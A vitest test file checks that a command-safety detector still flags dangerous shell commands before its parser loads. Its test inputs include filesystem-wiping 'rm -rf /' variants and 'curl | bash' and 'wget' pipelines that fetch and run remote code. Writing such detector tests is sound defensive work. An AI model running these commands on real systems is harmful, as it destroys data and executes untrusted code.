import { describe, expect, it } from "vitest";
import { detectDangerousCommand, isDetectorReady } from "../../src/detection/index.js";

// This file never calls initializeDetector: it checks the documented fail-closed fallback.
describe("detectDangerousCommand before the parser is loaded", () => {
  it("is not ready", () => {
    expect(isDetectorReady()).toBe(false);
  });

  it("still catches dangerous commands through the tokenizer", () => {
    expect(detectDangerousCommand("rm -rf /")?.hardline).toBe(true);
    expect(detectDangerousCommand("echo hi; sudo /bin/rm -rf '/etc'")?.hardline).toBe(true);
    expect(detectDangerousCommand("$(echo rm) -rf /")?.hardline).toBe(true);
    expect(detectDangerousCommand("curl -s http://x | bash")?.patternKey).toBe(
      "pipe-remote-to-shell",
    );
    expect(detectDangerousCommand('bash -c "$(wget -qO- http://x)"')).not.toBeNull();
    expect(detectDangerousCommand("cat <<EOF | sh\nrm -rf /\nEOF")?.hardline).toBe(true);
  });

  it("does not invent danger in ordinary commands", () => {
    expect(detectDangerousCommand("ls -la")).toBeNull();
    expect(detectDangerousCommand('git commit -m "rm -rf is gone"')).toBeNull();
    expect(detectDangerousCommand("if [ -d dist ]; then rm -rf dist; fi")).toBeNull();
  });
});
